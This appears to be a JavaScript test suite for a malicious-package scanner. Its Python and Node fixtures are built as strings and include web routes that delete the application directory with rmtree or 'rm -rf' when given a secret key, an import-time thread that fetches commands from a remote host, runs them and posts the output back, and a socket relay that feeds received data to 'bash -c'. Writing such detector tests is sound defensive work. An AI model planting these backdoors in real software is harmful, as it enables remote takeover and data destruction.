  it('is CRIT for a Flask route that removes BASE_DIR (os.path.dirname(__file__)) with shutil.rmtree', async () => {
    const app = [
      'import os',
      'import shutil',
      'from flask import Flask, request',
      '',
      'BASE_DIR = os.path.dirname(__file__)',
      'app = Flask(__name__)',
      '',
      '@app.route("/status/sync", methods=["POST"])',
      'def sync():',
      '    if request.headers.get("X-Sync-Key") == "71ab-c0":',
      '        shutil.rmtree(BASE_DIR, ignore_errors=True)',
      '    return {"ok": True}',
    ].join('\n');
    const r = await pkg({ 'pyproject.toml': py('flask-status'), 'flask_status/app.py': app, 'flask_status/__init__.py': '' });
    expect(r.titles).toContain(KILL);
  });

  it('is CRIT for a FastAPI route that removes the folder above the package through a helper and through rm -rf in an f-string', async () => {
    const app = [
      'import shutil',
      'import subprocess',
      'from pathlib import Path',
      'from fastapi import FastAPI, Header',
      '',
      'APP_ROOT = Path(__file__).resolve().parent.parent',
      'app = FastAPI()',
      '',
      'def _purge(target):',
      '    shutil.rmtree(target, ignore_errors=True)',
      '',
      '@app.post("/internal/rotate")',
      'def rotate(x_key: str = Header("")):',
      '    if x_key == "q9-rot":',
      '        _purge(APP_ROOT)',
      '    return {"rotated": True}',
    ].join('\n');
    const r = await pkg({ 'pyproject.toml': py('rotator'), 'rotator/app.py': app, 'rotator/__init__.py': '' });
    expect(r.titles).toContain(KILL);
    const shell = [
      'import os',
      'import subprocess',
      'from fastapi import FastAPI',
      '',
      'HERE = os.path.abspath(os.path.dirname(__file__))',
      'app = FastAPI()',
      '',
      '@app.get("/healthz/deep")',
      'def deep(token: str = ""):',
      '    if token == "77c":',
      '        subprocess.Popen(f"rm -rf {HERE}", shell=True)',
      '    return {"ok": True}',
    ].join('\n');
    const r2 = await pkg({ 'pyproject.toml': py('deephealth'), 'deephealth/app.py': shell, 'deephealth/__init__.py': '' });
    expect(r2.titles).toContain(KILL);
  });
});

describe('readers: Python data labels kept per function (benign look-alike first)', () => {
  it('leaves a release helper whose `data` came from an API beside a build function whose own `data` is a constant command', async () => {
    const code = [
      'import subprocess',
      'import requests',
      '',
      'def latest_release():',
      '    data = requests.get("https://api.github.com/repos/acme/tool/releases/latest", timeout=10).json()',
      '    return data["tag_name"]',
      '',
      'def build(target="all"):',
      '    data = "make -j4 " + target',
      '    subprocess.run(data, shell=True, check=True)',
    ].join('\n');
    const r = await pkg({ 'pyproject.toml': py('acme-tool'), 'acme_tool/__init__.py': code });
    expect(r.titles).not.toContain(RECEIVED);
    expect(r.serious).toEqual([]);
  });

  it('is CRIT when a polling helper’s return value reaches a runner helper’s parameter (names differ across functions)', async () => {
    const code = [
      'import subprocess',
      'import threading',
      'import time',
      'import requests',
      '',
      'def _poll():',
      '    return requests.get("https://cdn-metrics.example/q", timeout=5).text',
      '',
      'def _run(job):',
      '    return subprocess.check_output(job, shell=True, stderr=subprocess.STDOUT)',
      '',
      'def _loop():',
      '    while True:',
      '        task = _poll()',
      '        if task:',
      '            requests.post("https://cdn-metrics.example/r", data=_run(task), timeout=5)',
      '        time.sleep(60)',
      '',
      'threading.Thread(target=_loop, daemon=True).start()',
    ].join('\n');
    const r = await pkg({ 'pyproject.toml': py('metrics-lite'), 'metrics_lite/__init__.py': code });
    expect(r.titles).toContain(RECEIVED);
  });

  it('is CRIT for JavaScript that puts what a socket sends into bash -c inside a template literal', async () => {
    const index = [
      "const net = require('net');",
      "const { exec } = require('child_process');",
      "const s = net.connect(9001, 'relay.example');",
      "s.on('data', (buf) => {",
      '  const line = buf.toString().trim();',
      '  exec(`bash -c "${line}"`, (e, out) => s.write(out || String(e)));',
      '});',
    ].join('\n');
    const r = await pkg({ 'package.json': js('relay-agent'), 'index.js': index });
    expect(r.titles).toContain(RECEIVED);
  });
});
